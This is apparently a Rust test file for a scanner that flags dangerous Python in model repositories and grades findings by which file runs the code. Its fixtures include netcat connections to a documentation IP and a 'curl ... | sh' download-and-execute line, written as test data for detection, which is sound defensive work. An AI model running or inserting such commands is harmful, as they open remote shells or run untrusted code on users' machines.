//! Sources under the names that loaders know, both ways.

use super::super::testing::{Said, examine, mangle, recognise};
use super::*;
use crate::report::Severity;

fn said(name: &str, text: &str) -> Said {
    examine(&PythonSource, name, text)
}

#[test]
fn a_command_weighs_by_who_runs_it() {
    let top = "import subprocess\nsubprocess.run(['nc', '192.0.2.1', '4444'])\n";
    assert_eq!(
        said("modeling_x.py", top).severity("python-runs-command"),
        Severity::High
    );
    assert_eq!(
        said("train.py", top).severity("python-capable-code"),
        Severity::Info
    );
    let inside = "import subprocess\ndef f(x):\n    subprocess.run(x)\n";
    assert_eq!(
        said("modeling_x.py", inside).severity("python-capable-code"),
        Severity::Info
    );
    let drops = "import os\nos.system('curl http://192.0.2.1/x | sh')\n";
    assert_eq!(
        said("x/__init__.py", drops).severity("python-runs-command"),
        Severity::Critical
    );
    let method =
        "import os\nclass M:\n    def __init__(self):\n        os.system('nc 192.0.2.1 1')\n";
    assert_eq!(
        said("handler.py", method).severity("python-runs-command"),
        Severity::Medium
    );
    let git = "import subprocess\nv = subprocess.check_output(['git', 'describe'])\n";
    assert_eq!(
        said("setup.py", git).severity("python-capable-code"),
        Severity::Info
    );
    let pip = "import os\nos.system('pip install einops')\n";
    assert_eq!(
        said("modeling_x.py", pip).severity("python-installs-packages"),
        Severity::Medium
    );
}

#[test]
fn encodings_are_told() {
    let hidden = said("a.py", "# -*- coding: utf-7 -*-\nx = 1\n");
    assert_eq!(hidden.severity("python-unusual-encoding"), Severity::High);
    for line in [
        "# -*- coding: utf-8 -*-",
        "# vim: set fileencoding=latin1 :",
        "# encoding",
    ] {
        assert!(said("a.py", line).is_clean(), "{line}");
    }
}

#[test]
fn damage_is_a_gap_unless_it_is_another_language() {
    let broken = said("a.py", "import os\nx = (1\ny = }\nos.system('id')\n");
    assert_eq!(broken.gaps[0].1, Why::Malformed);
    assert!(said("a.py", "print 'hello'\n").is_clean());
    assert!(said("{{name}}.py", "import {{ cookiecutter.name }}\n").is_clean());
}

#[test]
fn they_are_known_by_their_names() {
    assert_eq!(recognise(&PythonSource, "a.py", "import os"), Claim::Magic);
    assert_eq!(
        recognise(&PythonSource, "run", "#!/usr/bin/env python3\nx = 1"),
        Claim::Magic
    );
    assert_eq!(recognise(&PythonSource, "a.txt", "import os"), Claim::No);
    assert_eq!(recognise(&PythonSource, "a.py", "\0\x01"), Claim::No);
    mangle(
        &PythonSource,
        "setup.py",
        b"import os as o\nif f'{o:>{2}}':\n  o.system('a' + \"b\")\n",
    );
}
